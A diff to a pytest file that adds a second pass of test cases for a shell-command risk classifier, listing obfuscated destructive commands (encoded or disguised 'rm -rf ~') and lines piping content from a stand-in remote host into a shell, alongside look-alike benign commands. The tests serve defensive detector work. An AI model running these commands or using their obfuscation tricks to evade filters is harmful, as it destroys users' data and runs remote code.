@@ -305,11 +305,78 @@ BENIGN = [
 ]
 
 
-@pytest.mark.parametrize(("command", "least"), DANGEROUS)
+# Second pass, written after the first pass's fixes and before any rule change for it.
+SECOND_PASS_DANGEROUS = [
+    ('perl -e \'print pack("H*","726d202d7266207e")\' | sh', HIGH),
+    ("python3 -c \"print(bytes.fromhex('726d202d7266207e').decode())\" | bash", HIGH),
+    (f"node -e \"process.stdout.write(Buffer.from('{RM_B64}','base64'))\" | sh", HIGH),
+    (f'ruby -e \'print "{RM_B64}".unpack1("m")\' | sh', HIGH),
+    ("xxd -r -p payload.hex | bash", HIGH),
+    (f"echo {RM_B64} | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x", HIGH),
+    ("curl -s http://203.0.113.9/p.gz | gunzip | sh", HIGH),
+    ("echo $'\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x7e' | sh", HIGH),
+    ("eval \"$(echo 'ez -es ~' | tr a-z n-za-m)\"", HIGH),
+    (f"x=$(echo {RM_B64} | base64 -d); $x", HIGH),
+    (f'x=$(echo {RM_B64} | base64 -d); eval "$x"', HIGH),
+    (f'bash -c "$(xxd -r -p <<< {RM_HEX})"', HIGH),
+    ('sh -c "$(zcat payload.gz)"', HIGH),
+    (". <(gpg -d payload.gpg)", HIGH),
+    ("source <(openssl enc -d -aes-256-cbc -k k -in p.enc)", HIGH),
+    ("bash < <(base64 -d p.b64)", HIGH),
+    ("base64 -d p.b64 | bash /dev/stdin", HIGH),
+    ('python3 - <<< "$(base64 -d p.b64)"', HIGH),
+    (f'python3 -c "$(base64 -d <<< {PY_B64})"', HIGH),
+    (f'perl -e "$(echo {PERL_B64} | base64 -d)"', HIGH),
+    ('node -e "$(base64 -d p.b64)"', HIGH),
+    ("$BASH -c 'rm -rf ~'", CRITICAL),
+    ("/proc/self/exe -c 'rm -rf ~'", HIGH),
+    ("command -p rm -rf ~", CRITICAL),
+    ("\\command rm -rf ~", CRITICAL),
+    ("r\\\nm -rf ~", CRITICAL),
+    ('"${PATH:0:1}bin${PATH:0:1}rm" -rf ~', CRITICAL),
+    ("rm -rf ${HOME:0:1}", CRITICAL),
+    ("$(tr -d x <<< rxm) -rf ~", HIGH),
+    ("$(sed 's/x//' <<< rxm) -rf ~", HIGH),
+    ("$(echo mr | rev) -rf ~", CRITICAL),
+    ("a=m; r${a} -rf ~", CRITICAL),
+    ("declare -n r=c; c=rm; $r -rf ~", CRITICAL),
+    ("function x { rm -rf ~; }; x", CRITICAL),
+    ('x() { "$@"; }; x rm -rf ~', CRITICAL),
+    ("printf 'rm -rf ~' > /tmp/x; . /tmp/x", HIGH),
+    ("echo 'rm -rf ~' > x.sh && bash x.sh", CRITICAL),
+    ("cat > /tmp/a.sh <<'EOF'\nrm -rf ~\nEOF\nsh /tmp/a.sh", CRITICAL),
+    ("openssl s_client -quiet -connect 203.0.113.9:443 | sh", HIGH),
+]
+
+SECOND_PASS_BENIGN = [
+    ('perl -e \'print pack("H*","68656c6c6f")\'', SAFE),
+    ("python3 -c \"print(bytes.fromhex('68656c6c6f').decode())\"", SAFE),
+    ("xxd -r -p payload.hex > payload.bin", MODERATE),
+    (f"echo {RM_B64} | base64 -d > decoded.txt", MODERATE),
+    ("base64 -d p.b64 | file -", SAFE),
+    ("base64 -d p.b64 | sha256sum", SAFE),
+    ("gunzip -c install.sh.gz | bash -n", MODERATE),
+    ("zcat script.sh.gz | shellcheck -", SAFE),
+    ('echo "${PATH:0:1}"', SAFE),
+    ('ls "${HOME:0:1}"', SAFE),
+    ('x() { ls -la "$@"; }; x /tmp', SAFE),
+    ("function greet { echo hi; }; greet", SAFE),
+    ("command -p ls", SAFE),
+    ("\\command ls -la", SAFE),
+    ("$BASH --version", SAFE),
+    ("$SHELL -c 'echo $0'", MODERATE),
+    ("echo 'ls -la' > list.sh && bash list.sh", MODERATE),
+    ("$(echo ls) -la", MODERATE),
+    ("a=s; l${a} -la", MODERATE),
+    ("openssl s_client -connect example.com:443 -servername example.com < /dev/null", MODERATE),
+]
+
+
+@pytest.mark.parametrize(("command", "least"), DANGEROUS + SECOND_PASS_DANGEROUS)
 def test_dangerous(command: str, least: RiskLevel) -> None:
     reaches(command, least)
 
 
-@pytest.mark.parametrize(("command", "highest"), BENIGN)
+@pytest.mark.parametrize(("command", "highest"), BENIGN + SECOND_PASS_BENIGN)
 def test_benign(command: str, highest: RiskLevel) -> None:
     stays_within(command, highest)
